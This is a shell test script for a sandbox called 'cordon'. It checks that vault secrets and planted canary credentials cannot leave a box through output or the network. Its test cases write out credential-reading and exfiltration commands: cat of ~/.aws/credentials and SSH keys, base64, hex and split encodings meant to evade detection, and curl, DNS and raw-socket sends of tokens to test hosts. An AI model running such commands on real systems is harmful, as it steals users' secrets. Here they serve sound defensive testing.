# The vault's secrets do not leave through a checked stream; a canary that a box prints, looks up or sends ends it.
. "$(dirname "$0")/lib-net.sh"
if [ ! -x "$CORDON_LIBEXEC/cordon-vault" ]; then
        skip "secrets of the vault in output" "cordon-vault is not built here: it needs OpenSSL"
        done_testing
fi
secret=ghp_Q9zzSecretOfTheTestSuite0123456789
error() { json '.error.what // .error // ""'; }
for who in root as_user; do
        home=$T/home-$who
        mkdir -m 700 "$home" && [ "$who" = root ] || chown 65533:65533 "$home" 2>/dev/null
        export XDG_CONFIG_HOME="$home"
        printf %s "$secret" | $who env XDG_CONFIG_HOME="$home" "$CORDON" vault add gh --env GITHUB_TOKEN >"$T/out" 2>&1
        cat >"$T/print" <<END
echo $secret; printf $secret | base64; printf x$secret | base64; printf $secret | od -An -v -tx1 | tr -d ' \n'; echo; echo $secret | rev
printf ghp_Q9zz; sleep 0.1; echo SecretOfTheTestSuite0123456789; printf $secret | base32 -w0; echo
END
        chmod 644 "$T/print"
        box $who --net "http://web.test/** GET with gh" --read "$T/print" --stdout 'as text' -- sh "$T/print"
        is "$who: a secret of the vault is printed in no encoding" "$status $(grep -c '<secret:gh>' "$T/out")" "0 7"
        hasnt "$who: nothing of it is left" "$(cat "$T/out")" "SecretOf"
        box $who --net "http://web.test/** GET with gh" --read "$T/print" --out 'o max 1M as gzip' --handle "o=$home/o" -- sh -c 'true'
        ok "$who: a binary with a secret is refused" test "$status" -eq 123
        # --- canaries of the box's own ---
        box $who --trip canaries -- sh -c 'ls -a ~ >/dev/null; echo survived'
        is "$who: a box that leaves its canaries alone" "$status $(cat "$T/out")" "0 survived"
        for what in 'cat ~/.aws/credentials' 'cat ~/.ssh/id_rsa_backup' 'base64 -w0 ~/.git-credentials' 'echo $BACKUP_API_TOKEN | rev' 'printf %.9s $BACKUP_API_TOKEN; sleep 0.1; printf %s ${BACKUP_API_TOKEN#?????????}'; do
                box $who --trip canaries -- sh -c "$what; sleep 30; echo survived"
                is "$who: $what ends it" "$status $(grep -c survived "$T/out")" "125 0"
                has "$who: with an alarm" "$(error)" "tripwire: stdout contains the canary "
        done
        box $who --trip canaries -t -- sh -c 'cat ~/.aws/credentials; sleep 30; echo survived'
        is "$who: on a terminal too" "$status $(grep -c survived "$T/out")" "125 0"
        box $who --trip canaries --stdout 'as text' -- sh -c 'echo; cat ~/.aws/credentials; sleep 30; echo survived'
        is "$who: a checked stream does not even pass it" "$status $(grep -c secret_access "$T/out")" "125 0"
        box $who --trip canaries --stdout 'as json' -- sh -c 'printf "[\"%s\"," "$BACKUP_API_TOKEN"; sleep 30; echo survived'
        is "$who: nor does a form that is judged whole wait for its end" "$status $(grep -c survived "$T/out")" "125 0"
        box $who --trip canaries --stdout 'as text' -- sh -c 'echo; cat ~/.aws/credentials; sleep 30; echo survived'
        has "$who: the record says it" "$($who "$CORDON" ledger --json | jq -r 'select(.kind == "end") | .more.error // empty' | tail -n 1)" "tripwire: stdout contains the canary ~/.aws/credentials"
        # --- at egress ---
        for what in 'curl -sS -m 10 -H "X-A: $BACKUP_API_TOKEN" http://web.test/a' 'curl -sS -m 10 --data "x=$(echo $BACKUP_API_TOKEN | base64)" http://web.test/a' \
                'curl -sS -m 10 "http://web.test/$(echo $BACKUP_API_TOKEN | rev)"' 'getent hosts $BACKUP_API_TOKEN.web.test'; do
                : >"$T/lab/auth.log"
                box $who --trip canaries --net 'http://web.test/** GET POST' -- sh -c "$what; sleep 30; echo survived"
                is "$who: $what ends it" "$status $(grep -c survived "$T/out")" "125 0"
                has "$who: with its code" "$(json '[.denials[] | .reason] | join(" ")')" "canary"
                has "$who: and an alarm" "$(error)" "tripwire: "
        done
        box $who --trip canaries --net 'http://web.test/** GET POST' -- sh -c 'curl -sS -m 10 --data "$BACKUP_API_TOKEN" http://web.test/a; true'
        is "$who: a command that ends at once has failed too" "$status" 125
        has "$who: with the alarm" "$(error)" "tripwire: "
        box $who --use base/python3 --trip canaries --net four.test:80 -- python3 -c '
import os, socket, time
s = socket.create_connection(("four.test", 80))
t = os.environ["BACKUP_API_TOKEN"].encode().hex().encode()
s.sendall(b"GET /" + t[:20]); time.sleep(0.2); s.sendall(t[20:] + b" HTTP/1.0\r\n\r\n"); time.sleep(30); print("survived")'
        is "$who: plain bytes too, in two parts" "$status $(grep -c survived "$T/out") $(json '[.denials[] | .reason] | map(select(. == "canary")) | unique | join(" ")')" "125 0 canary"
        # --- planted in a home ---
        mkdir -m 777 "$T/tree-$who"
        as="$who env XDG_CONFIG_HOME=$home"
        $as "$CORDON" vault canary "$T/tree-$who/credentials" 2>"$T/err"
        is "$who: a canary is planted" "$? $($as "$CORDON" vault canary) $(grep -c aws_secret_access_key "$T/tree-$who/credentials")" "0 $T/tree-$who/credentials 1"
        is "$who: not over a file" "$($as "$CORDON" vault canary "$T/tree-$who/credentials" 2>/dev/null; echo $?)" 125
        box $who --read "$T/tree-$who" --stdout 'as text' -- sh -c "gzip -c <$T/tree-$who/credentials | wc -c; echo survived"
        is "$who: it may be read" "$status $(tail -n 1 "$T/out")" "0 survived"
        box $who --read "$T/tree-$who" --stdout 'as text' -- sh -c "cat $T/tree-$who/credentials; sleep 30; echo survived"
        is "$who: not printed" "$status $(grep -c survived "$T/out")" "125 0"
        box $who --read "$T/tree-$who" --net 'http://web.test/** POST' -- sh -c "curl -sS -m 10 --data-binary @$T/tree-$who/credentials http://web.test/a; sleep 30; echo survived"
        is "$who: nor sent, whatever else was asked for" "$status $(grep -c survived "$T/out")" "125 0"
        has "$who: the alarm names it" "$(error)" "tripwire: "
        rm "$T/tree-$who/credentials"
        is "$who: a file that is gone is no canary" "$($as "$CORDON" vault canary)" ""
done
done_testing
